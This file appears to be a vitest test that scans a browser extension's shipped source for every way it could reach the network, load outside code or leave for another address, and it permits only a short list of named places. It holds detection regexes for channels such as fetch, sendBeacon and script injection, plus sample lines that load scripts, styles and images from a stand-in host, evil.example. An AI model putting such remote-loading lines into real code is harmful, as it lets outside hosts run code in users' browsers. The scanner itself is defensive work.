import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';

const ROOT = join(import.meta.dirname, '../..');
const SHIPPED = /^(?:analysis|cases|components|entrypoints|messaging|model|pages|platform|public|reading|state|storage)\/.*\.(?:tsx?|css|html|svg)$/;
const files = execFileSync('git', ['ls-files', '--cached', '--others', '--exclude-standard'], { cwd: ROOT, encoding: 'utf8' })
  .split('\n')
  .filter((file) => SHIPPED.test(file));

/** A file, and what its line must say; then, where the line alone does not show whose the address is, a place that does. */
type Place = readonly [file: string, line: RegExp, shownBy?: readonly [file: string, text: RegExp]];

/**
 * Everything by which a browser asks something of a network or leaves for another address, and the places that may. A new place is a decision: see
 * docs/THREATS.md.
 */
const WAYS: readonly { readonly what: string; readonly pattern: RegExp; readonly allowed?: readonly Place[] }[] = [
  {
    what: 'a request from code',
    pattern: /\bfetch\s*\(|\b(?:XMLHttpRequest|WebSocket|WebSocketStream|EventSource|WebTransport|sendBeacon|RTCPeerConnection|importScripts|fetchLater)\b/,
    allowed: [['entrypoints/background/tagger.ts', /fetch\(browser\.runtime\.getURL\('\/tagger\.bin'\)\)/]],
  },
  {
    what: 'code from elsewhere',
    pattern:
      /\bimport\s*\(\s*(?!['"]\.{1,2}\/)|\bnew (?:Shared)?Worker\s*\(|serviceWorker\.register|createElement\(\s*['"](?:script|link|iframe|object|embed|base)/i,
    allowed: [
      ['pages/store-client.ts', /new Worker\(new URL\('\.\/store-worker\.ts', import\.meta\.url\)/],
      // The docked panel: a page of the extension in our closed root.
      [
        'reading/dock.ts',
        /const frame = .*createElement\('iframe'\);/,
        ['entrypoints/reader.content/start-reader.ts', /dock\.open\(browser\.runtime\.getURL\(`\/sidepanel\.html\?ticket=/],
      ],
    ],
  },
  {
    what: 'something shown from elsewhere',
    pattern:
      /\bnew (?:Image|Audio)\b|<(?:img|image|iframe|frame|video|audio|source|object|embed|track|link|base|script)\b(?![^>]*src="\.\/)|\burl\(\s*['"]?(?!data:|#)|@import\b|\bsrcset\b|@font-face/,
    allowed: [['model/case-file.ts', /v\.url\('must be a full address'\)/]],
  },
  {
    what: 'a hint to fetch',
    pattern: /\b(?:preconnect|dns-prefetch|prefetch|prerender|speculationrules|modulepreload)\b|\bping=/i,
  },
  {
    what: 'leaving for another address',
    pattern:
      /\bwindow\.open\s*\(|\blocation\.(?:assign|replace)\s*\(|\blocation(?:\.href)?\s*=(?!=)|<form\b[^>]*\baction=|<meta[^>]+http-equiv|setUninstallURL|\b(?:downloads|webRequest)\./,
    // The docked panel has no tabs; the same page of the extension in a tab of its own.
    allowed: [
      [
        'entrypoints/sidepanel/OpenInTab.tsx',
        /isDocked \? window\.open\(ownPage\)/,
        ['entrypoints/sidepanel/OpenInTab.tsx', /const ownPage = browser\.runtime\.getURL\(`\/sidepanel\.html\?tab=/],
      ],
    ],
  },
  {
    what: 'an ear for pages and other extensions',
    pattern: /\bonMessageExternal\b|\bonConnectExternal\b|\bonConnect\b|externally_connectable|window\.postMessage|parent\.postMessage|BroadcastChannel/,
  },
];

function places(pattern: RegExp): { file: string; line: string; place: string }[] {
  return files.flatMap((file) =>
    readFileSync(join(ROOT, file), 'utf8')
      .split('\n')
      .flatMap((line, index) =>
        pattern.test(line) && !/^\s*(?:\*|\/\/|\/\*)/.test(line) ? [{ file, line, place: `${file}:${index + 1} ${line.trim()}` }] : [],
      ),
  );
}

test('there is something to look at', () => {
  expect(files.length).toBeGreaterThan(100);
});

test.each(WAYS.map((way) => [way.what, way] as const))('%s: in the named places alone', (_what, { pattern, allowed = [] }) => {
  const found = places(pattern);
  expect(found.filter(({ file, line }) => !allowed.some(([name, must]) => name === file && must.test(line))).map(({ place }) => place)).toEqual([]);
  for (const [, , shownBy] of allowed) if (shownBy) expect(readFileSync(join(ROOT, shownBy[0]), 'utf8')).toMatch(shownBy[1]);
  // Nor does a place stay allowed that is no longer there.
  expect(allowed.filter(([name]) => !found.some(({ file }) => file === name))).toEqual([]);
});

test('the scan sees what it must', () => {
  const lines = [
    'await fetch (url)',
    'navigator.sendBeacon(url)',
    'await import(url)',
    "import('https://evil.example/x.js')",
    'new Image().src = url',
    '<img src={url} />',
    '<script src="https://evil.example/x.js"></script>',
    'background: url(https://evil.example/x.png)',
    "@import 'https://evil.example/x.css'",
    'location.href = url',
    'window.open(url)',
    '<a ping="https://evil.example/">',
    'chrome.runtime.onMessageExternal.addListener(f)',
  ];
  expect(lines.filter((line) => !WAYS.some(({ pattern }) => pattern.test(line)))).toEqual([]);
});
